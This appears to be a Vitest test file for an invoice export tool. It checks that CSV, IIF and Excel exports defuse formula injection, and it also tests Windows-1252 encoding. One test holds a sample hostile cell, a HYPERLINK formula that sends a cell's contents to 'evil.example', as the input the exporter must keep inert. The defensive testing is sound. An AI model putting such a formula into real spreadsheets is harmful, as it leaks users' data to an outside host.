import { describe, expect, it } from 'vitest'
import { allHard, hard } from '../../test/hard-documents.ts'
import { readCsv, readIif, readWorkbook } from '../../test/readers.ts'
import { exported } from '../../test/ready.ts'
import { formatIds } from '../formats.ts'
import { inWindows1252, windows1252Bytes } from './windows-1252.ts'

const csvFormats = formatIds.filter(
  (format) => !['ubl', 'xlsx', 'datev', 'quickbooks-desktop'].includes(format),
)
const isNumber = /^-?\d+([.,]\d+)?$/

describe('hostile cells', () => {
  it.each(csvFormats)('of %s begin no formula, and amounts stay numbers', (format) => {
    const cells = exported(format, allHard, { currency: 'EUR' }).files.flatMap((file) =>
      readCsv(file).flatMap((row) => Object.values(row)),
    )
    expect(cells.length).toBeGreaterThan(20)
    const risky = cells.filter((cell) => /^\s*[=+\-@]/.test(cell) && !isNumber.test(cell))
    expect(risky).toEqual([])
    expect(cells.some((cell) => /^'-\d/.test(cell) && isNumber.test(cell.slice(1)))).toBe(false)
  })

  it('of an IIF file break out of no cell and no line', () => {
    const [file] = exported('quickbooks-desktop', [hard.hostile, hard.threeRates], {
      currency: 'EUR',
    }).files
    const transactions = file ? readIif(file) : []
    expect(transactions.map(({ head }) => head.DOCNUM)).toEqual(['INV-104', 'INV-101'])
    const cells = transactions.flatMap(({ head, splits }) =>
      [head, ...splits].flatMap((row) => Object.values(row)),
    )
    expect(cells.filter((cell) => cell.includes('"') || /^[=+@]/.test(cell))).toEqual([])
  })

  it('of a workbook are texts as they were written, and no cell is a formula', () => {
    const [file] = exported('xlsx', [hard.hostile]).files
    const [documents = []] = file ? readWorkbook(file) : []
    const names = documents[1]?.map(({ value }) => value)
    expect(names).toContain('=HYPERLINK("http://evil.example?"&A1,"Acme")')
    const cells = file ? readWorkbook(file).flat(2) : []
    expect(cells.filter(({ isFormula }) => isFormula)).toEqual([])
    expect(cells.filter(({ type, value }) => type === 'n' && !/^-?[\d.]*$/.test(value))).toEqual([])
  })
})

describe('Windows-1252', () => {
  it('is what every decoder reads, for each character that it has', () => {
    const all = new TextDecoder('windows-1252').decode(
      Uint8Array.from({ length: 256 }, (_, code) => code),
    )
    const printable = [...all].filter((character) => !/\p{Cc}/u.test(character)).join('')
    const read = new TextDecoder('windows-1252').decode(windows1252Bytes(printable))
    expect(read).toBe(printable)
    expect(inWindows1252(printable)).toBe(printable)
  })

  it('has no other letters: accents go, the rest becomes a question mark', () => {
    expect(inWindows1252('Łódź Őrség 日本 Ž €')).toBe('?ódz Orség ?? Ž €')
  })
})
